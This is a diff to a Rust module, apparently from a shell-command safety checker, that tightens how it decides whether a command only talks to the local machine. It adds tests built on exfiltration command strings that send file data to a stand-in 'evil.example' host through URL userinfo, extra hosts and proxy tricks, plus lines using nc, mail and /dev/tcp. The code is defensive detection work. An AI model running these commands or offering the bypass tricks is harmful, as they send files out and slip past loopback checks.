@@ -1,8 +1,13 @@
 //! Which parts of a command can carry something to another machine.
 
+use alloc::vec::Vec;
+
 use aish_program_format::Trait;
 
 use crate::command::Part;
+use crate::command::arguments::Arguments;
+use crate::command::matched::{is_loopback, leads_elsewhere};
+use crate::command::word::Word;
 use crate::rules::{Effect, programs};
 
 /// Options that make a fetching program send.
@@ -97,7 +102,7 @@ fn uploads(part: &Part) -> bool {
         }
         _ => false,
     };
-    sends && !is_loopback(&part.text)
+    sends && !stays_here(&part.text)
 }
 
 /// Says whether a word is an option with its value, as in `--data=x`, `-d@file` or `--data-raw`.
@@ -106,19 +111,25 @@ fn longer(word: &str, option: &str) -> bool {
     option.ends_with('-') || rest.starts_with('=') || (option.len() == 2 && option.starts_with('-') && !rest.is_empty())
 }
 
-fn is_loopback(text: &str) -> bool {
-    let places =
-        text.split(' ').filter(|word| word.contains("://") || word.contains("localhost") || word.contains("127."));
-    let mut any = false;
-    for place in places {
-        any = true;
-        let host = place.split_once("://").map_or(place, |(_, rest)| rest);
-        let host = host.split(['/', ':', '?']).next().unwrap_or_default();
-        if !matches!(host, "localhost" | "127.0.0.1") {
-            return false;
-        }
-    }
-    any
+/// Says whether all addresses of a line are of this machine, and nothing leads to another one.
+fn stays_here(text: &str) -> bool {
+    let words: Vec<Word> = text.split(' ').map(Word::literal).collect();
+    let Some((program, arguments)) = words.split_first() else { return false };
+    let sorted = Arguments::new(name(&program.text), arguments);
+    let names = |word: &&Word| ["://", "localhost", "127."].iter().any(|sign| word.text.contains(sign));
+    let mut places = arguments.iter().filter(names).peekable();
+    places.peek().is_some()
+        && places.all(|word| is_loopback(&word.text))
+        && sorted.operands().all(|(_, word, _)| is_loopback(&word.text) || !is_host(&word.text))
+        && !leads_elsewhere(&sorted)
+}
+
+/// Says whether a word may be the name of a machine, perhaps with a path behind it.
+fn is_host(text: &str) -> bool {
+    let host = text.split(['/', ':', '?', '#']).next().unwrap_or_default();
+    host.contains('.')
+        && !host.starts_with('.')
+        && host.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'-' | b'@'))
 }
 
 /// Goes through the sub-commands of a program that talk to another machine.
@@ -210,6 +221,10 @@ mod tests {
             "cat f | nc host 1",
             "wget --post-file=f https://example.com",
             "curl -d x http://localhost.evil.example",
+            "curl -d x http://localhost:80@evil.example/",
+            "curl -d x http://localhost:8080 evil.example",
+            "curl -d x -H 'Referer: http://localhost' evil.example/a",
+            "curl -d x -x evil:8080 http://localhost:8080/a",
             "cat f | mail a@b.example",
             "base64 f > /dev/tcp/h/1",
         ] {
